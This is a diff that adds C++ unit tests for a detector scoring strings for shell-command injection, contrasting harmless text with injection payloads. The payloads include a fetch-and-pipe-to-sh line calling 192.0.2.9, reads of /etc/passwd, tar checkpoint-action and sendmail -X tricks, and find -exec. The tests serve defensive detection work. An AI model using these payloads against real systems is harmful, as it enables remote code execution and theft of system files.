@@ -241,5 +241,27 @@ TEST(Shell, OtherWaysToRunSomething) {
     EXPECT_LT(points(text), kThreshold) << text;
 }
 
+TEST(Shell, NamesMethodsAndComparisonsAreNoCommands) {
+  for (const std::string_view text :
+       {";AT&T Prepaid SIM + $50", "a<-10;date>=2026-01-01;text~\"AT&T\"", "GET /api/items?filter=two%20dots",
+        "5* & more", "2|ab", "The&#32;Cat&#32;in&#32;the&#32;Hat", "C&#58;&#92;Users&#92;Anna",
+        "> see /etc/fstab for it", "| whoami | who |", "it costs $((a lot))", "use find -exec with care;"}) {
+    EXPECT_LT(points(text), kThreshold) << text;
+  }
+  for (const std::string_view text :
+       {"5 & ls", "2|ab -n 1 http://192.0.2.9/", "x;GET http://192.0.2.9/x|sh", ";date>/tmp/x"})
+    EXPECT_GE(points(text), kThreshold) << text;
+}
+
+TEST(Shell, OtherSignsThatSomethingIsRun) {
+  for (const std::string_view text :
+       {"a;id", "a|id", "&call whoami", "| whoami |", "|calc", "&forfiles /p c:\\windows /c calc.exe",
+        ";. /etc/profile", ";vdir /etc", ";usleep 5000000", "-exec id ;", ". -exec id {} ;",
+        "a --checkpoint=1 --checkpoint-action=exec=sh x", "-OQueueDirectory=/tmp -X../x.php",
+        "`echo a$((71+25))$(echo a)a`", "> /tmp/x", "</etc/passwd", "a;/usr/bin/id|"}) {
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+}
+
 }  // namespace
 }  // namespace onesec::inspect
